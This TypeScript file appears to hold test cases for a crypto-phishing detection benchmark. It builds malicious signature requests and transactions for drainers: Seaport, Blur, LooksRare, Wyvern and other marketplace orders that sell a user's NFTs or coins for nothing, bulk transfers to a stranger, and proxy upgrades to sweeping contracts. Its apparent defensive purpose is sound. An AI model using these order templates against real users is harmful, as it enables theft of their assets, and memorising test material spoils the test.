import { type Address, type Hex, hashTypedData, parseAbi, toHex } from 'viem';

import type { Case } from '../Case.ts';
import { attack, calls, losesBy, signature, type Typed, transaction } from './attack.ts';
import { type Deployed, ETHER, FAR_SECONDS, type Heist, ownContract, type RawCall, ZERO_ADDRESS } from './Heist.ts';
import { smartAccount } from './smartAccount.ts';

/** C: items sold for nothing, or moved in bulk, and proxies of the user's that would run other code. */
export const ORDERS: readonly Case[] = [
  seaport('c1-nothing', 'consideration: 1 wei of nothing for nobody (an empty list)', '1.5', async () => []),
  seaport('c1-dust', 'consideration: 1 wei of ether to the maker', '1.6', async (h) => [ether(1n, h.user)]),
  seaport('c1-elsewhere', 'consideration: a fair price, paid to the thief', '1.5', async (h) => [
    ether(2n * ETHER, h.thief),
  ]),
  seaport('c1-split', 'consideration: 3 % to the maker, the rest as a "fee" to the thief', '1.4', async (h) => [
    ether((2n * ETHER * 3n) / 100n, h.user),
    ether((2n * ETHER * 97n) / 100n, h.thief),
  ]),
  seaport('c1-worthless-coin', 'consideration: a thousand of a coin the thief minted', '1.1', async (h) => {
    const fake = await h.thiefs('Counterfeit', ['Reward Points', 'RWD', 18]);
    return [{ itemType: 1, token: fake.address, identifierOrCriteria: 0n, amount: 1000n * ETHER, recipient: h.user }];
  }),
  seaport('c1-counterfeit-weth', 'consideration: counterfeit WETH to the maker', '1.6', async (h) => {
    const fake = await h.thiefs('Counterfeit', ['Wrapped Ether', 'WETH', 18]);
    return [{ itemType: 1, token: fake.address, identifierOrCriteria: 0n, amount: 5n * ETHER, recipient: h.user }];
  }),
  seaportMany(),
  seaportCoins(),
  seaportBulk(),
  bulkTransfer('c2-items-721', 'items of one ERC-721 collection', async (h) => {
    const art = await h.art(4n);
    return { coll: art, list: art.ids.map((id) => ({ itemType: 2, token: art.address, identifier: id, amount: 1n })) };
  }),
  bulkTransfer('c2-mixed', 'coins, ERC-721 and ERC-1155 together', async (h) => {
    const [coin, art, items] = [await h.coin(), await h.art(2n), await h.items()];
    const held = await h.balance(coin)();
    return {
      coll: art,
      also: [items, coin],
      list: [
        { itemType: 1, token: coin.address, identifier: 0n, amount: held },
        ...art.ids.map((id) => ({ itemType: 2, token: art.address, identifier: id, amount: 1n })),
        { itemType: 3, token: items.address, identifier: 7n, amount: 5n },
      ],
    };
  }),
  transaction(
    {
      id: 'c2-safe-batch',
      family: 'C2',
      shape: 'safeBatchTransferFrom of every ERC-1155 item to a plain account',
      provenance: 'PTXPhish (NDSS 2025), category bulk transfer',
    },
    async (heist) => {
      const items = await heist.items();
      const args = [heist.user, heist.thief, [7n, 8n], [5n, 20n], '0x'];
      return { call: heist.encode(items, 'safeBatchTransferFrom', args), stake: heist.itemBalance(items, 8n) };
    },
  ),
  calls(
    {
      id: 'c2-calls-items',
      family: 'C2',
      shape: 'wallet_sendCalls: four safeTransferFrom of a collection to one stranger',
      provenance: 'PTXPhish (NDSS 2025), bulk transfer, by EIP-5792',
    },
    async (heist) => {
      const art = await heist.art(4n);
      return {
        calls: art.ids.map((id) => transferItem(heist, art, id)),
        stake: heist.balance(art),
      };
    },
  ),
  ...upgrades(),
  signature(
    {
      id: 'c4-root',
      family: 'C4',
      shape: 'Blur Root{bytes32} of unseen orders',
      provenance: 'Blur bulk listings; thefts of 2023',
    },
    async (heist) => {
      const art = await heist.art();
      const root = toHex('a root of orders', { size: 32 });
      const typed: Typed = {
        domain: { name: 'Blur Exchange', version: '1.0', chainId: heist.world.chainId, verifyingContract: BLUR },
        types: { Root: [{ name: 'root', type: 'bytes32' }] },
        primaryType: 'Root',
        message: { root },
      };
      return soldThroughMarket(heist, art, typed);
    },
  ),
  signature(
    {
      id: 'c4-blur-order',
      family: 'C4',
      shape: 'Blur Order: side sell, price 1 wei',
      provenance: 'Blur exchange v1; private listings for 1 wei in 2023',
    },
    async (heist) => {
      const art = await heist.art();
      return soldThroughMarket(heist, art, blurOrder(heist, art, 1n, []));
    },
  ),
  signature(
    {
      id: 'c4-blur-fees',
      family: 'C4',
      shape: 'Blur Order: fair price whose fees of 100 % go to the thief',
      provenance: 'Blur exchange v1 fees',
    },
    async (heist) => {
      const art = await heist.art();
      return soldThroughMarket(heist, art, blurOrder(heist, art, ETHER, [{ rate: 9900, recipient: heist.thief }]));
    },
  ),
  ...markets(),
];

const SEAPORTS: Readonly<Record<string, Address>> = {
  '1.1': '0x00000000006c3852cbEf3e08E8dF289169EdE581',
  '1.4': '0x00000000000001ad428e4906aE43D8F9852d0dD6',
  '1.5': '0x00000000000000ADc04C56Bf30aC9d3c0aAF14dC',
  '1.6': '0x0000000000000068F116a894984e2DB1123eB395',
};
const BLUR: Address = '0x000000000000Ad05Ccc4F10045630fb830B95127';

interface Item {
  readonly itemType: number;
  readonly token: Address;
  readonly identifierOrCriteria: bigint;
  readonly amount: bigint;
}
type Receipt = Item & { readonly recipient: Address };

function ether(amount: bigint, recipient: Address): Receipt {
  return { itemType: 0, token: ZERO_ADDRESS, identifierOrCriteria: 0n, amount, recipient };
}

const OFFER_ITEM = [
  { name: 'itemType', type: 'uint8' },
  { name: 'token', type: 'address' },
  { name: 'identifierOrCriteria', type: 'uint256' },
  { name: 'startAmount', type: 'uint256' },
  { name: 'endAmount', type: 'uint256' },
];
const SEAPORT_TYPES = {
  OrderComponents: [
    { name: 'offerer', type: 'address' },
    { name: 'zone', type: 'address' },
    { name: 'offer', type: 'OfferItem[]' },
    { name: 'consideration', type: 'ConsiderationItem[]' },
    { name: 'orderType', type: 'uint8' },
    { name: 'startTime', type: 'uint256' },
    { name: 'endTime', type: 'uint256' },
    { name: 'zoneHash', type: 'bytes32' },
    { name: 'salt', type: 'uint256' },
    { name: 'conduitKey', type: 'bytes32' },
    { name: 'counter', type: 'uint256' },
  ],
  OfferItem: OFFER_ITEM,
  ConsiderationItem: [...OFFER_ITEM, { name: 'recipient', type: 'address' }],
};
const NO_BYTES: Hex = `0x${'0'.repeat(64)}`;

function seaportOrder(heist: Heist, offer: readonly Item[], consideration: readonly Receipt[]) {
  const ranged = <T extends Item>({ amount, ...item }: T) => ({ ...item, startAmount: amount, endAmount: amount });
  return {
    offerer: heist.user,
    zone: ZERO_ADDRESS,
    offer: offer.map(ranged),
    consideration: consideration.map(ranged),
    orderType: 0,
    startTime: 0n,
    endTime: FAR_SECONDS,
    zoneHash: NO_BYTES,
    salt: 81n,
    conduitKey: NO_BYTES,
    counter: 0n,
  };
}

function seaportTyped(heist: Heist, version: string, order: object): Typed {
  return {
    domain: {
      name: 'Seaport',
      version,
      chainId: heist.world.chainId,
      verifyingContract: SEAPORTS[version] ?? ZERO_ADDRESS,
    },
    types: SEAPORT_TYPES,
    primaryType: 'OrderComponents',
    message: { ...order },
  };
}

function seaport(id: string, what: string, version: string, receipts: (heist: Heist) => Promise<Receipt[]>): Case {
  const about = {
    id,
    family: 'C1',
    shape: `Seaport ${version} OrderComponents, one item; ${what}`,
    provenance: 'PTXPhish (NDSS 2025), category NFT order; OpenSea thefts of 2022-2024',
    origin: 'https://drops.quietmint.net',
  };
  return signature(about, async (heist) => {
    const art = await heist.art();
    const [id = 0n] = art.ids;
    const offer = [{ itemType: 2, token: art.address, identifierOrCriteria: id, amount: 1n }];
    const typed = seaportTyped(heist, version, seaportOrder(heist, offer, await receipts(heist)));
    return soldThroughMarket(heist, art, typed);
  });
}

function seaportMany(): Case {
  const about = {
    id: 'c1-many',
    family: 'C1',
    shape: 'Seaport 1.5 OrderComponents, items of two standards together; consideration 1 wei',
    provenance: 'OpenSea thefts of 2022-2024: the whole wallet in one order',
  };
  return signature(about, async (heist) => {
    const [art, items] = [await heist.art(), await heist.items()];
    const offer = [
      ...art.ids.map((id) => ({ itemType: 2, token: art.address, identifierOrCriteria: id, amount: 1n })),
      { itemType: 3, token: items.address, identifierOrCriteria: 7n, amount: 5n },
    ];
    const typed = seaportTyped(heist, '1.5', seaportOrder(heist, offer, [ether(1n, heist.user)]));
    return soldThroughMarket(heist, art, typed);
  });
}

function seaportCoins(): Case {
  const about = {
    id: 'c1-coins-for-item',
    family: 'C1',
    shape: 'Seaport 1.6 OrderComponents offering the coin balance for an item the thief made',
    provenance: 'fake "accept offer" flows, 2023-2024',
  };
  return signature(about, async (heist) => {
    const coin = await heist.coin();
    const junk = await heist.thiefs('Art', ['Free Gift']);
    const held = await heist.balance(coin)();
    const offer = [{ itemType: 1, token: coin.address, identifierOrCriteria: 0n, amount: held }];
    const receipt = { itemType: 2, token: junk.address, identifierOrCriteria: 1n, amount: 1n, recipient: heist.user };
    const typed = seaportTyped(heist, '1.6', seaportOrder(heist, offer, [receipt]));
    return soldThroughMarket(heist, coin, typed);
  });
}

function seaportBulk(): Case {
  const about = {
    id: 'c1-bulk',
    family: 'C1',
    shape: 'Seaport 1.5 BulkOrder: a tree of two free orders',
    provenance: 'Seaport bulk listings',
  };
  return signature(about, async (heist) => {
    const art = await heist.art();
    const order = (index: number) =>
      seaportOrder(
        heist,
        [{ itemType: 2, token: art.address, identifierOrCriteria: art.ids[index] ?? 0n, amount: 1n }],
        [ether(1n, heist.user)],
      );
    const { domain } = seaportTyped(heist, '1.5', {});
    const typed: Typed = {
      domain,
      types: { BulkOrder: [{ name: 'tree', type: 'OrderComponents[2]' }], ...SEAPORT_TYPES },
      primaryType: 'BulkOrder',
      message: { tree: [order(0), order(1)] },
    };
    return soldThroughMarket(heist, art, typed);
  });
}

/**
 * The exchanges' own code is in no npm package that this repository installs: a market that accepts any EIP-712 hash its
 * maker signed stands where the user's approval goes, and pays what this theft pays: nothing.
 */
async function soldThroughMarket(heist: Heist, held: Deployed & { readonly ids?: readonly bigint[] }, typed: Typed) {
  const market = await heist.honest('SignedMarket');
  const { ids } = held;
  if (ids === undefined) await heist.send(heist.user, held, 'approve', [market.address, 2n ** 255n]);
  else await heist.send(heist.user, held, 'setApprovalForAll', [market.address, true]);
  const stake = heist.balance(held);
  const digest = digestOf(typed);
  return {
    typed,
    stake,
    async theft(signed: Hex) {
      if (ids === undefined) {
        const args = [digest, signed, heist.user, held.address, await stake(), heist.thief];
        await heist.send(heist.thief, market, 'takeCoin', args);
        return;
      }
      const lot = { maker: heist.user, collection: held.address, id: ids[0] ?? 0n, payWei: 0n, payee: heist.user };
      await heist.send(heist.thief, market, 'fill', [digest, signed, lot, heist.thief]);
    },
  };
}

function digestOf({ domain, types, primaryType, message }: Typed): Hex {
  return hashTypedData({ domain, types, primaryType, message });
}

function bulkTransfer(
  id: string,
  what: string,
  make: (heist: Heist) => Promise<{
    coll: Deployed;
    also?: readonly Deployed[];
    list: readonly { itemType: number; token: Address; identifier: bigint; amount: bigint }[];
  }>,
): Case {
  const about = {
    id,
    family: 'C2',
    shape: `TransferHelper bulkTransfer to one new address: ${what}`,
    provenance: 'PTXPhish (NDSS 2025), category bulk transfer (OpenSea TransferHelper)',
  };
  return transaction(about, async (heist) => {
    const helper = await heist.honest('TransferHelper');
    const { coll, also = [], list } = await make(heist);
    await heist.send(heist.user, coll, 'setApprovalForAll', [helper.address, true]);
    for (const one of also) {
      const isCoin = one.abi.some((entry) => entry.type === 'function' && entry.name === 'approve');
      await heist.send(
        heist.user,
        one,
        isCoin ? 'approve' : 'setApprovalForAll',
        isCoin ? [helper.address, 2n ** 255n] : [helper.address, true],
      );
    }
    const lots = [{ items: list, recipient: heist.stranger('bulk'), validateERC721Receiver: false }];
    return { call: heist.encode(helper, 'bulkTransfer', [lots, NO_BYTES]), stake: heist.balance(coll) };
  });
}

function transferItem(heist: Heist, art: Deployed, id: bigint): RawCall {
  const abi = parseAbi(['function safeTransferFrom(address from, address to, uint256 id)']);
  return heist.encode({ ...art, abi }, 'safeTransferFrom', [heist.user, heist.stranger('gallery'), id]);
}

const SWEEP = parseAbi(['function sweepEther(address to)']);

/** C3: nothing moves when it is signed; afterwards the thief's code holds what the proxy holds. */
function upgrades(): Case[] {
  const provenance = 'PTXPhish (NDSS 2025), category proxy upgrade (108 of 5,000)';
  const direct = (id: string, functionName: string, args: (h: Heist, code: Address) => readonly unknown[]): Case =>
    transaction({ id, family: 'C3', shape: `${functionName} on the user's proxy`, provenance }, async (heist) => {
      const { proxy, coin, code } = await usersProxy(heist);
      return {
        call: heist.encode(proxy, functionName, args(heist, code.address)),
        stake: heist.balance(coin, proxy.address),
        theft: async () => {
          if (functionName === 'changeAdmin') await heist.send(heist.thief, proxy, 'upgradeTo', [code.address]);
          await heist.send(heist.thief, { ...proxy, abi: code.abi }, 'sweep', [coin.address, heist.thief]);
        },
      };
    });
  const byManager = (id: string, functionName: string): Case =>
    transaction({ id, family: 'C3', shape: `ProxyAdmin ${functionName}`, provenance }, async (heist) => {
      const admin = await heist.honest('AdminOfProxies', [heist.user]);
      const { proxy, coin, code } = await usersProxy(heist, admin.address);
      const to = functionName === 'upgrade' ? code.address : heist.thief;
      return {
        call: heist.encode(admin, functionName, [proxy.address, to]),
        stake: heist.balance(coin, proxy.address),
        theft: async () => {
          if (functionName !== 'upgrade') await heist.send(heist.thief, proxy, 'upgradeTo', [code.address]);
          await heist.send(heist.thief, { ...proxy, abi: code.abi }, 'sweep', [coin.address, heist.thief]);
        },
      };
    });
  return [
    direct('c3-upgrade-to', 'upgradeTo', (_, code) => [code]),
    direct('c3-upgrade-and-call', 'upgradeToAndCall', (heist, code) => [
      code,
      heist.encode({ address: code, abi: SWEEP }, 'sweepEther', [heist.thief]).data,
    ]),
    direct('c3-change-admin', 'changeAdmin', (heist) => [heist.thief]),
    byManager('c3-manager-upgrade', 'upgrade'),
    byManager('c3-manager-admin', 'changeProxyAdmin'),
    transaction(
      {
        id: 'c3-smart-account',
        family: 'C3',
        shape: "upgradeToAndCall on the user's ERC-4337 account (UUPS)",
        provenance,
      },
      async (heist) => {
        const { account, coin } = await smartAccount(heist);
        const code = await heist.thiefs('UupsSweeper');
        return {
          call: heist.encode(account, 'upgradeToAndCall', [code.address, '0x']),
          stake: heist.balance(coin, account.address),
          theft: () => heist.send(heist.thief, { ...account, abi: code.abi }, 'sweep', [coin.address, heist.thief]),
        };
      },
    ),
  ];
}

async function usersProxy(heist: Heist, admin: Address = heist.user) {
  const vault = await heist.honest('PlainVault');
  const proxy = await heist.honest('OldProxy', [vault.address, admin]);
  const coin = await heist.coin();
  await heist.send(heist.world.deployer, coin, 'mint', [proxy.address, heist.scaled(9_000_000_000n)]);
  return { proxy, coin, code: await heist.thiefs('SweepingVault') };
}

function blurOrder(
  heist: Heist,
  art: Deployed & { readonly ids: readonly bigint[] },
  price: bigint,
  fees: object[],
): Typed {
  return {
    domain: { name: 'Blur Exchange', version: '1.0', chainId: heist.world.chainId, verifyingContract: BLUR },
    types: {
      Order: [
        { name: 'trader', type: 'address' },
        { name: 'side', type: 'uint8' },
        { name: 'matchingPolicy', type: 'address' },
        { name: 'collection', type: 'address' },
        { name: 'tokenId', type: 'uint256' },
        { name: 'amount', type: 'uint256' },
        { name: 'paymentToken', type: 'address' },
        { name: 'price', type: 'uint256' },
        { name: 'listingTime', type: 'uint256' },
        { name: 'expirationTime', type: 'uint256' },
        { name: 'fees', type: 'Fee[]' },
        { name: 'salt', type: 'uint256' },
        { name: 'extraParams', type: 'bytes' },
        { name: 'nonce', type: 'uint256' },
      ],
      Fee: [
        { name: 'rate', type: 'uint16' },
        { name: 'recipient', type: 'address' },
      ],
    },
    primaryType: 'Order',
    message: {
      trader: heist.user,
      side: 1,
      matchingPolicy: '0x0000000000dab4a563819e8fd93dba3b25bc3495',
      collection: art.address,
      tokenId: art.ids[0] ?? 0n,
      amount: 1n,
      paymentToken: ZERO_ADDRESS,
      price,
      listingTime: 0n,
      expirationTime: FAR_SECONDS,
      fees,
      salt: 5n,
      extraParams: '0x',
      nonce: 0n,
    },
  };
}

/** C5: the other exchanges' orders, each in its own type. */
function markets(): Case[] {
  const market = (
    id: string,
    shape: string,
    provenance: string,
    make: (heist: Heist, collection: Address, tokenId: bigint) => Typed,
  ): Case =>
    signature({ id, family: 'C5', shape, provenance }, async (heist) => {
      const art = await heist.art();
      return soldThroughMarket(heist, art, make(heist, art.address, art.ids[0] ?? 0n));
    });
  return [
    market('c5-zero-ex', '0x v4 ERC721Order, price 0', '0x v4 NFT orders (Coinbase NFT, 2022)', zeroExOrder),
    market(
      'c5-looks-rare',
      'LooksRare MakerOrder (v1), ask for 1 wei',
      '@looksrare/contracts-exchange-v1',
      looksRareV1,
    ),
    market('c5-looks-rare-2', 'LooksRare Maker (v2), ask for 1 wei', 'LooksRare protocol v2', looksRareV2),
    market('c5-x2y2', 'X2Y2 Order, intent sell, price 1 wei', 'X2Y2 r1 orders', x2y2Order),
    market(
      'c5-wyvern',
      'Wyvern v2.3 Order, basePrice 0, private taker',
      'OpenSea, 19 Feb 2022: 32 users, Wyvern orders signed before the migration',
      wyvernOrder,
    ),
    market('c5-rarible', 'Rarible ExchangeV2 Order, make an item, take nothing', 'Rarible ExchangeV2', raribleOrder),
    market('c5-element', 'Element ERC721SellOrder, price 0', 'Element Market orders', elementOrder),
    attack(
      {
        id: 'c5-wyvern-hash',
        family: 'C5',
        shape: 'Wyvern v1 order hash by personal_sign, its proxy still approved',
        provenance: 'OpenSea before Feb 2022: orders signed as bare hashes',
      },
      async (heist) => {
        const art = await heist.art();
        const { market_, registry } = await oldMarket(heist);
        await heist.send(heist.user, registry, 'registerProxy');
        const proxy = await heist.world.read(registry.address, registry.abi, 'proxies', [heist.user]);
        await heist.send(heist.user, art, 'setApprovalForAll', [proxy, true]);
        const sale = { maker: heist.user, collection: art.address, id: art.ids[0] ?? 0n, priceWei: 0n, salt: 5n };
        const digest = readHex(await heist.world.read(market_.address, market_.abi, 'hashOf', [sale]), 'hash');
        return {
          method: 'personal_sign',
          params: [digest, heist.user],
          account: heist.user,
          strike: () =>
            losesBy(heist.balance(art), async () => {
              const signed = await heist.world.signer(heist.user).signMessage({ message: { raw: digest } });
              await heist.send(heist.thief, market_, 'take', [sale, signed, heist.thief]);
            }),
        };
      },
    ),
  ];
}

/** The first Wyvern exchange and its registry, where they really stand. */
async function oldMarket(heist: Heist) {
  const at = async (address: Address, name: string, args: readonly unknown[]): Promise<Deployed> => {
    const artifact = ownContract(name);
    return { address: await heist.world.deployAt(address, artifact, args), abi: artifact.abi };
  };
  const market_ = await at('0x7Be8076f4EA4A4AD08075C2508e481d6C946D12b', 'HashMarket', [WYVERN_REGISTRY]);
  return { market_, registry: await at(WYVERN_REGISTRY, 'HashRegistry', [market_.address]) };
}

const WYVERN_REGISTRY: Address = '0xa5409ec958C83C3f309868babACA7c86DCB077c1';

function readHex(value: unknown, what: string): Hex {
  if (typeof value !== 'string' || !value.startsWith('0x')) throw new Error(`The market gave no ${what}.`);
  return `0x${value.slice(2)}`;
}

const field = (name: string, type: string) => ({ name, type });
const fieldsOf = (text: string) =>
  text.split(',').map((part) => {
    const [type = '', name = ''] = part.trim().split(' ');
    return field(name, type);
  });

function zeroExOrder(heist: Heist, collection: Address, tokenId: bigint): Typed {
  return {
    domain: {
      name: 'ZeroEx',
      version: '1.0.0',
      chainId: heist.world.chainId,
      verifyingContract: '0xDef1C0ded9bec7F1a1670819833240f027b25EfF',
    },
    types: {
      ERC721Order: fieldsOf(
        'uint8 direction,address maker,address taker,uint256 expiry,uint256 nonce,address erc20Token,uint256 erc20TokenAmount,Fee[] fees,address erc721Token,uint256 erc721TokenId,Property[] erc721TokenProperties',
      ),
      Fee: fieldsOf('address recipient,uint256 amount,bytes feeData'),
      Property: fieldsOf('address propertyValidator,bytes propertyData'),
    },
    primaryType: 'ERC721Order',
    message: {
      direction: 0,
      maker: heist.user,
      taker: heist.thief,
      expiry: FAR_SECONDS,
      nonce: 1n,
      erc20Token: '0xEeeeeEeeeEeEeeEeEeEeeEEEeeeeEeeeeeeeEEeE',
      erc20TokenAmount: 0n,
      fees: [],
      erc721Token: collection,
      erc721TokenId: tokenId,
      erc721TokenProperties: [],
    },
  };
}

function elementOrder(heist: Heist, collection: Address, tokenId: bigint): Typed {
  return {
    domain: {
      name: 'ElementEx',
      version: '1.0.0',
      chainId: heist.world.chainId,
      verifyingContract: '0x20F780A973856B93f63670377900C1d2a50a77c4',
    },
    types: {
      ERC721SellOrder: fieldsOf(
        'address maker,address taker,uint256 expiry,uint256 nonce,address erc20Token,uint256 erc20TokenAmount,Fee[] fees,address nft,uint256 nftId,uint256 hashNonce',
      ),
      Fee: fieldsOf('address recipient,uint256 amount,bytes feeData'),
    },
    primaryType: 'ERC721SellOrder',
    message: {
      maker: heist.user,
      taker: heist.thief,
      expiry: FAR_SECONDS,
      nonce: 1n,
      erc20Token: '0xEeeeeEeeeEeEeeEeEeEeeEEEeeeeEeeeeeeeEEeE',
      erc20TokenAmount: 0n,
      fees: [],
      nft: collection,
      nftId: tokenId,
      hashNonce: 0n,
    },
  };
}

function looksRareV1(heist: Heist, collection: Address, tokenId: bigint): Typed {
  return {
    domain: {
      name: 'LooksRareExchange',
      version: '1',
      chainId: heist.world.chainId,
      verifyingContract: '0x59728544B08AB483533076417FbBB2fD0B17CE3a',
    },
    types: {
      MakerOrder: fieldsOf(
        'bool isOrderAsk,address signer,address collection,uint256 price,uint256 tokenId,uint256 amount,address strategy,address currency,uint256 nonce,uint256 startTime,uint256 endTime,uint256 minPercentageToAsk,bytes params',
      ),
    },
    primaryType: 'MakerOrder',
    message: {
      isOrderAsk: true,
      signer: heist.user,
      collection,
      price: 1n,
      tokenId,
      amount: 1n,
      strategy: '0x56244Bb70CbD3EA9Dc8007399F61dFC065190031',
      currency: '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2',
      nonce: 0n,
      startTime: 0n,
      endTime: FAR_SECONDS,
      minPercentageToAsk: 0n,
      params: '0x',
    },
  };
}

function looksRareV2(heist: Heist, collection: Address, tokenId: bigint): Typed {
  return {
    domain: {
      name: 'LooksRareProtocol',
      version: '2',
      chainId: heist.world.chainId,
      verifyingContract: '0x0000000000E655fAe4d56241588680F86E3b2377',
    },
    types: {
      Maker: fieldsOf(
        'uint8 quoteType,uint256 globalNonce,uint256 subsetNonce,uint256 orderNonce,uint256 strategyId,uint8 collectionType,address collection,address currency,address signer,uint256 startTime,uint256 endTime,uint256 price,uint256[] itemIds,uint256[] amounts,bytes additionalParameters',
      ),
    },
    primaryType: 'Maker',
    message: {
      quoteType: 1,
      globalNonce: 0n,
      subsetNonce: 0n,
      orderNonce: 0n,
      strategyId: 0n,
      collectionType: 0,
      collection,
      currency: ZERO_ADDRESS,
      signer: heist.user,
      startTime: 0n,
      endTime: FAR_SECONDS,
      price: 1n,
      itemIds: [tokenId],
      amounts: [1n],
      additionalParameters: '0x',
    },
  };
}

function x2y2Order(heist: Heist, collection: Address, tokenId: bigint): Typed {
  return {
    domain: {
      name: 'X2Y2',
      version: '1',
      chainId: heist.world.chainId,
      verifyingContract: '0x74312363e45DCaBA76c59ec49a7Aa8A65a67EeD3',
    },
    types: {
      Order: fieldsOf(
        'uint256 salt,address user,uint256 network,uint256 intent,uint256 delegateType,uint256 deadline,address currency,bytes dataMask,OrderItem[] items',
      ),
      OrderItem: fieldsOf('uint256 price,bytes data'),
    },
    primaryType: 'Order',
    message: {
      salt: 9n,
      user: heist.user,
      network: 1n,
      intent: 1n,
      delegateType: 1n,
      deadline: FAR_SECONDS,
      currency: ZERO_ADDRESS,
      dataMask: '0x',
      items: [{ price: 1n, data: `0x${collection.slice(2)}${tokenId.toString(16).padStart(64, '0')}` }],
    },
  };
}

function wyvernOrder(heist: Heist, collection: Address, tokenId: bigint): Typed {
  return {
    domain: {
      name: 'Wyvern Exchange Contract',
      version: '2.3',
      chainId: heist.world.chainId,
      verifyingContract: '0x7f268357A8c2552623316e2562D90e642bB538E5',
    },
    types: {
      Order: fieldsOf(
        'address exchange,address maker,address taker,uint256 makerRelayerFee,uint256 takerRelayerFee,uint256 makerProtocolFee,uint256 takerProtocolFee,address feeRecipient,uint8 feeMethod,uint8 side,uint8 saleKind,address target,uint8 howToCall,bytes calldata,bytes replacementPattern,address staticTarget,bytes staticExtradata,address paymentToken,uint256 basePrice,uint256 extra,uint256 listingTime,uint256 expirationTime,uint256 salt,uint256 nonce',
      ),
    },
    primaryType: 'Order',
    message: {
      exchange: '0x7f268357A8c2552623316e2562D90e642bB538E5',
      maker: heist.user,
      taker: ZERO_ADDRESS,
      makerRelayerFee: 0n,
      takerRelayerFee: 0n,
      makerProtocolFee: 0n,
      takerProtocolFee: 0n,
      feeRecipient: ZERO_ADDRESS,
      feeMethod: 1,
      side: 1,
      saleKind: 0,
      target: collection,
      howToCall: 1,
      calldata: `0x23b872dd${heist.user.slice(2).padStart(64, '0')}${'0'.repeat(64)}${tokenId.toString(16).padStart(64, '0')}`,
      replacementPattern: `0x${'0'.repeat(72)}${'f'.repeat(64)}${'0'.repeat(64)}`,
      staticTarget: ZERO_ADDRESS,
      staticExtradata: '0x',
      paymentToken: ZERO_ADDRESS,
      basePrice: 0n,
      extra: 0n,
      listingTime: 0n,
      expirationTime: 0n,
      salt: 3n,
      nonce: 0n,
    },
  };
}

function raribleOrder(heist: Heist, collection: Address, tokenId: bigint): Typed {
  const data: Hex = `0x${collection.slice(2).padStart(64, '0')}${tokenId.toString(16).padStart(64, '0')}`;
  return {
    domain: {
      name: 'Exchange',
      version: '2',
      chainId: heist.world.chainId,
      verifyingContract: '0x9757F2d2b135150BBeb65308D4a91804107cd8D6',
    },
    types: {
      Order: fieldsOf(
        'address maker,Asset makeAsset,address taker,Asset takeAsset,uint256 salt,uint256 start,uint256 end,bytes4 dataType,bytes data',
      ),
      Asset: fieldsOf('AssetType assetType,uint256 value'),
      AssetType: fieldsOf('bytes4 assetClass,bytes data'),
    },
    primaryType: 'Order',
    message: {
      maker: heist.user,
      makeAsset: { assetType: { assetClass: '0x73ad2146', data }, value: 1n },
      taker: heist.thief,
      takeAsset: { assetType: { assetClass: '0xaaaebeba', data: '0x' }, value: 0n },
      salt: 4n,
      start: 0n,
      end: FAR_SECONDS,
      dataType: '0xffffffff',
      data: '0x',
    },
  };
}
